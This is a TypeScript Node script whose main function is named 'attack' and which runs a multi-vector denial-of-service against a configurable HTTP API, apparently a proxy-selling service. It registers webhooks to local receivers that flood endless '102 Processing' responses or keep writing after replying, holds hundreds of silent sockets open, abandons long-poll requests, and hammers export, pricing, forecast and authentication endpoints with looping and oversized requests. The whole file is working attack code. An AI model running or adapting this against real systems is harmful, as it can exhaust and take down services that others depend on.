import { createServer as createHttpServer, request } from 'node:http';
import { type AddressInfo, connect, createServer, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

export interface Target {
  readonly baseUrls: readonly string[];
  readonly token: string;
  readonly orderId: string;
}

const ADDRESS = '127.0.0.2';
const SILENT_SOCKETS = 700;
const PRICES = 150;
const EXPORTS = 20;
const HUGE_BODY = JSON.stringify(Object.fromEntries(Array.from({ length: 9000 }, (_, n) => [`f${n}`, 1])));
const PING = JSON.stringify({ filter: { proxy_type: 'socks' } });
const REPLAY = JSON.stringify({ since: new Date(Date.now() - 3_600_000) });
const target = JSON.parse(process.argv[2] ?? '{}') as Target;

interface Sent {
  readonly method?: string;
  readonly body?: string;
  readonly leaveAfterMs?: number;
}

function send(
  baseUrl: string,
  path: string,
  { method = 'GET', body, leaveAfterMs }: Sent = {},
): Promise<void> {
  return new Promise((resolve) => {
    const headers = { authorization: `Bearer ${target.token}`, 'content-type': 'application/json' };
    const call = request(baseUrl + path, { method, headers, agent: false, localAddress: ADDRESS });
    call.on('error', () => undefined).on('close', resolve);
    call.on('response', (response) => response.on('error', () => undefined).resume());
    call.end(body);
    if (leaveAfterMs !== undefined) call.once('finish', () => setTimeout(() => call.destroy(), leaveAfterMs));
  });
}

function keepDoing(
  atOnce: number,
  pauseMs: number,
  work: (baseUrl: string, n: number) => Promise<void>,
): void {
  let n = 0;
  for (const baseUrl of target.baseUrls) {
    for (let worker = 0; worker < atOnce; worker += 1) {
      void (async () => {
        for (;;) {
          await work(baseUrl, (n += 1));
          await pause(pauseMs);
        }
      })();
    }
  }
}

/** One sends interim responses without end; the other writes on after its response. */
async function startReceivers(): Promise<string[]> {
  const endless = createServer((socket: Socket) => {
    const flood = setInterval(() => socket.write('HTTP/1.1 102 Processing\r\n\r\n'.repeat(100)), 1);
    socket.on('error', () => undefined).on('close', () => clearInterval(flood));
  });
  const chatty = createHttpServer((call, response) => {
    const { socket } = call;
    response.writeHead(204).end();
    const flood = setInterval(() => socket.write('x'.repeat(10_000)), 1);
    socket.on('error', () => undefined).on('close', () => clearInterval(flood));
  });
  const urls: string[] = [];
  for (const server of [endless, chatty]) {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    urls.push(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
  }
  return urls;
}

async function attack(): Promise<void> {
  for (const url of await startReceivers()) {
    const response = await fetch(`${target.baseUrls[0]}/webhooks`, {
      method: 'POST',
      headers: { authorization: `Bearer ${target.token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ url }),
    });
    const { id } = (await response.json()) as { id: string };
    keepDoing(1, 50, (baseUrl) => send(baseUrl, `/webhooks/${id}/test`, { method: 'POST' }));
    keepDoing(1, 50, (baseUrl) => send(baseUrl, `/webhooks/${id}/replay`, { method: 'POST', body: REPLAY }));
  }
  for (const baseUrl of target.baseUrls) {
    const { hostname, port } = new URL(baseUrl);
    const open = (): void => {
      const socket = connect({ host: hostname, port: Number(port), localAddress: ADDRESS });
      socket.on('error', () => undefined).on('close', () => setTimeout(open, 1000));
    };
    for (let n = 0; n < SILENT_SOCKETS; n += 1) open();
  }
  keepDoing(2, 5, (url) => send(url, `/orders/${target.orderId}?wait=30`, { leaveAfterMs: 1 }));
  keepDoing(2, 10, (url) => send(url, '/events?after=now&wait=30', { leaveAfterMs: 1 }));
  keepDoing(120, 1000, (url) => send(url, `/orders/${target.orderId}?wait=30`));
  keepDoing(2, 50, (url) => send(url, '/proxies/ping', { method: 'POST', body: PING }));
  keepDoing(EXPORTS, 500, (url, n) =>
    send(url, `/proxies/lists/clash?ends_before=2100-01-01T00:00:${String(n % 60).padStart(2, '0')}Z`),
  );
  keepDoing(PRICES, 2000, (url, n) => send(url, `/price?period=${100 + (n % 3000)}`));
  keepDoing(2, 20, (url) => send(url, '/renewals/forecast?days=90'));
  keepDoing(2, 20, (url) => send(url, '/auth/telegram', { method: 'POST', body: HUGE_BODY }));
  process.stdout.write('attacking\n');
}

void attack();
